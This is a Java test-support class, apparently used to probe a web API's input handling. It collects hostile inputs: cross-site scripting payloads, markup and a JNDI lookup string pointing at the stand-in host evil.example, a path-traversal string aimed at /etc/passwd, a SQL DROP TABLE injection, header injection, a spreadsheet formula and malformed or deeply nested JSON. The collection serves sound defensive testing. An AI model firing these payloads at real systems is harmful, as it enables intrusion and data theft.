package dev.holdfast.arquillian.api;

import jakarta.json.Json;
import jakarta.json.JsonArray;
import jakarta.json.JsonNumber;
import jakarta.json.JsonObject;
import jakarta.json.JsonString;
import jakarta.json.JsonValue;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/// What nobody should send.
public final class HostileInput {
  private static final int DEEP = 100_000;
  private static final JsonValue HUGE = Json.createValue(new BigDecimal("1e999999999"));

  /// Texts that become a script where a page takes them for markup. Each sets `window.injected`, or
  /// opens a dialog.
  public static final List<String> SCRIPTS =
      List.of(
          "<script>window.injected=1</script>",
          "<ScRiPt>alert(1)</sCrIpT>",
          "<img src=x onerror=window.injected=2>",
          "<img src=\"x\" onerror=\"alert(2)\">",
          "<svg onload=window.injected=3>",
          "<svg/onload=alert(3)//",
          "<svg><script>window.injected=4</script></svg>",
          "<svg><animate onbegin=window.injected=5 attributeName=x dur=1s>",
          "<iframe srcdoc=\"<script>parent.injected=6</script>\"></iframe>",
          "<iframe src=javascript:parent.injected=7></iframe>",
          "<object data=javascript:window.injected=8></object>",
          "<a href=javascript:window.injected=9>a link</a>",
          "<a href=\"java&#x0a;script:alert(9)\">a link</a>",
          "<body onload=window.injected=10>",
          "<details open ontoggle=window.injected=11>",
          "<input autofocus onfocus=window.injected=12>",
          "<style>@import 'javascript:alert(13)'; * { display: none }</style>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
          "<form action=//evil.example/><button>Log in</button></form>",
          "\"><script>window.injected=14</script>",
          "'-alert(15)-'",
          "\"onmouseover=window.injected=16 x=\"",
          "</title><script>window.injected=17</script>",
          "</textarea><script>window.injected=18</script>",
          "<!--<img src=\"--><img src=x onerror=window.injected=19>",
          "<![CDATA[<script>window.injected=20</script>]]>",
          "${alert(21)}{{constructor.constructor('window.injected=21')()}}",
          "javascript:window.injected=22",
          "<math><mtext><img src=x onerror=window.injected=23></mtext></math>",
          "<noscript><p title=\"</noscript><img src=x onerror=window.injected=24>\">",
          "<template><script>window.injected=25</script></template>",
          "\u202e<b>backwards</b>\u2066",
          "=HYPERLINK(\"//evil.example/\")");

  /// Bodies that are no JSON object, whatever an operation takes.
  public static final List<String> BODIES =
      List.of(
          "",
          " ",
          "{",
          "}",
          "[]",
          "null",
          "7",
          "\"text\"",
          "{\"a\":}",
          "{\"a\": 1,}",
          "{'a': 1}",
          "{\"a\": 1} {\"b\": 2}",
          "<a/>",
          "a=1&b=2",
          "\u0000",
          "{\"a\": \"\\u0000\"}",
          "{\"a\": \"\\ud800\"}",
          "{\"a\": \"\\uZZZZ\"}",
          "{\"a\": NaN}",
          "[".repeat(DEEP),
          "{\"a\":".repeat(DEEP),
          "{\"a\": " + "[".repeat(DEEP) + "]".repeat(DEEP) + "}");

  /// Media types that are not JSON; a page of another site can send most of them.
  public static final List<String> MEDIA_TYPES =
      List.of(
          "text/plain",
          "text/plain;application/json",
          "application/x-www-form-urlencoded",
          "multipart/form-data; boundary=x",
          "text/html",
          "application/xml",
          "application/octet-stream");

  /// Values of parameters of an address, encoded.
  public static final List<String> PARAMETERS =
      List.of(
          "",
          "-1",
          "0",
          "1000000000",
          "99999999999999999999999",
          "1e9",
          "NaN",
          "abc",
          "%00",
          "a%00b",
          "%FF",
          "%ED%A0%80",
          "%0D%0AX-Injected:%201",
          "..%2F..%2Fetc%2Fpasswd",
          "%27%3B%20DROP%20TABLE%20x%3B%20--",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "%24%7Bjndi:ldap://evil.example/x%7D",
          "+292278994-08-17T07:12:55.192Z",
          "9999-99-99T99:99:99Z",
          "x".repeat(4_000));

  private HostileInput() {}

  /// Bodies like this one, each with a member of another type, or with a text that nobody can keep.
  public static List<JsonObject> withWrongMembers(JsonObject body) {
    List<JsonObject> wrong = new ArrayList<>();
    body.forEach((name, value) ->
        wrongInsteadOf(value)
            .forEach(other -> wrong.add(Json.createObjectBuilder(body).add(name, other).build())));
    return wrong;
  }

  /// The body in ASCII, so that half a surrogate pair arrives as what it is.
  public static byte[] escaped(JsonObject body) {
    var text = new StringBuilder();
    body.toString()
        .chars()
        .forEach(c -> text.append(c < 128 ? Character.toString(c) : "\\u%04x".formatted(c)));
    return text.toString().getBytes(StandardCharsets.US_ASCII);
  }

  private static List<JsonValue> wrongInsteadOf(JsonValue value) {
    JsonValue text = Json.createValue("no such thing");
    JsonValue list = Json.createArrayBuilder().add(JsonValue.EMPTY_JSON_OBJECT).build();
    return switch (value) {
      case JsonString _ ->
          List.of(
              Json.createValue(7),
              JsonValue.TRUE,
              list,
              JsonValue.EMPTY_JSON_OBJECT,
              Json.createValue("a\u0000b"),
              Json.createValue("\ud800"));
      case JsonNumber _ -> List.of(text, JsonValue.TRUE, list, JsonValue.EMPTY_JSON_OBJECT, HUGE);
      case JsonArray _ -> List.of(text, Json.createValue(7), list, JsonValue.EMPTY_JSON_OBJECT);
      case JsonObject _ -> List.of(text, Json.createValue(7), list);
      default -> List.of(text, Json.createValue(7), list, JsonValue.EMPTY_JSON_OBJECT);
    };
  }
}
